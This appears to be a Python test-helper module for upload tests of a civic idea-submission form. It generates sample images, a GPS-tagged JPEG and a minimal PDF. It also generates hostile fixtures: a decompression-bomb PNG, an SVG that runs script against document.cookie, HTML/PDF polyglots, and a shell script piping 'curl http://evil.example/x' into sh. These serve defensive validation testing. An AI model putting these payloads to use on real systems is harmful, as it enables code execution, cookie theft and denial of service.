"""Helpers for the submission and upload tests: form data, files made on
the spot (real images, a bomb, a polyglot) and links read from mail."""

from __future__ import annotations

import io
import re
import struct
import zlib

from PIL import ExifTags, Image

LINK = re.compile(r"https?://[^\s\"<>]+(/ideas/(?:confirm|track)/[A-Za-z0-9_\-]+)")

DESCRIPTION = (
    "Proponuję wytyczyć ścieżkę rowerową wokół przyszłego jeziora w wyrobisku, "
    "z punktami widokowymi i ławkami co kilometr."
)


def form_data(category_slug: str, **overrides: object) -> dict:
    data = {
        "title": "Ścieżka rowerowa wokół jeziora",
        "description": DESCRIPTION,
        "category": category_slug,
        "author_name": "Anna Kowalska",
        "email": "anna@example.org",
        "municipality": "Bełchatów",
        "show_author_name": "y",
        "consent": "y",
        "website": "",
    }
    data.update(overrides)
    return {key: value for key, value in data.items() if value is not None}


def link_in(text: str, kind: str) -> str:
    """The path of the first /ideas/<kind>/<token> link in *text*."""
    for match in LINK.finditer(text):
        if match.group(1).startswith(f"/ideas/{kind}/"):
            return match.group(1)
    raise AssertionError(f"no {kind} link in: {text}")


def image_bytes(fmt: str = "PNG", size: tuple[int, int] = (64, 48), color=(200, 30, 30)) -> bytes:
    output = io.BytesIO()
    Image.new("RGB", size, color).save(output, format=fmt)
    return output.getvalue()


def jpeg_with_gps() -> bytes:
    """A photo carrying a GPS position (and a camera model) in its EXIF."""
    exif = Image.Exif()
    exif[ExifTags.Base.Model] = "Telefon testowy"
    gps = exif.get_ifd(ExifTags.IFD.GPSInfo)
    gps[ExifTags.GPS.GPSLatitudeRef] = "N"
    gps[ExifTags.GPS.GPSLatitude] = (51.0, 21.0, 50.0)
    gps[ExifTags.GPS.GPSLongitudeRef] = "E"
    gps[ExifTags.GPS.GPSLongitude] = (19.0, 19.0, 30.0)
    output = io.BytesIO()
    Image.new("RGB", (80, 60), (10, 120, 40)).save(output, format="JPEG", exif=exif)
    return output.getvalue()


def gps_of(data: bytes) -> dict:
    return dict(Image.open(io.BytesIO(data)).getexif().get_ifd(ExifTags.IFD.GPSInfo))


def png_chunk(kind: bytes, body: bytes) -> bytes:
    return (
        struct.pack(">I", len(body))
        + kind
        + body
        + struct.pack(">I", zlib.crc32(kind + body) & 0xFFFFFFFF)
    )


def png_bomb(width: int = 20000, height: int = 20000) -> bytes:
    """A valid 1-bit PNG of width × height white pixels: a few dozen
    kilobytes on disk, gigabytes once decoded to RGB."""
    row = b"\x00" + b"\x00" * ((width + 7) // 8)
    compressor = zlib.compressobj(9)
    parts = [compressor.compress(row) for _ in range(height)]
    parts.append(compressor.flush())
    ihdr = struct.pack(">IIBBBBB", width, height, 1, 0, 0, 0, 0)
    return (
        b"\x89PNG\r\n\x1a\n"
        + png_chunk(b"IHDR", ihdr)
        + png_chunk(b"IDAT", b"".join(parts))
        + png_chunk(b"IEND", b"")
    )


def truncated_jpeg() -> bytes:
    data = image_bytes("JPEG", (400, 300))
    return data[: len(data) // 2]


def minimal_pdf() -> bytes:
    """A small valid one-page PDF."""
    objects = [
        b"<< /Type /Catalog /Pages 2 0 R >>",
        b"<< /Type /Pages /Kids [3 0 R] /Count 1 >>",
        b"<< /Type /Page /Parent 2 0 R /MediaBox [0 0 200 200] >>",
    ]
    out = io.BytesIO()
    out.write(b"%PDF-1.4\n")
    offsets = []
    for number, body in enumerate(objects, start=1):
        offsets.append(out.tell())
        out.write(b"%d 0 obj\n" % number + body + b"\nendobj\n")
    xref = out.tell()
    out.write(b"xref\n0 %d\n" % (len(objects) + 1))
    out.write(b"0000000000 65535 f \n")
    for offset in offsets:
        out.write(b"%010d 00000 n \n" % offset)
    out.write(b"trailer\n<< /Size %d /Root 1 0 R >>\n" % (len(objects) + 1))
    out.write(b"startxref\n%d\n%%%%EOF\n" % xref)
    return out.getvalue()


SVG = (
    b'<?xml version="1.0"?><svg xmlns="http://www.w3.org/2000/svg" width="10" height="10">'
    b"<script>alert(document.cookie)</script></svg>"
)
SCRIPT = b"#!/bin/sh\ncurl http://evil.example/x | sh\n"
# HTML in front of a PDF: many readers still open it, a browser would run it.
HTML_BEFORE_PDF = b"<html><body><script>alert(1)</script></body></html>\n" + minimal_pdf()
# Starts like a PDF but carries a web page right after the header.
PDF_WITH_HTML = (
    b"%PDF-1.4\n<html><script>alert(1)</script></html>\n" + minimal_pdf()[len(b"%PDF-1.4\n") :]
)
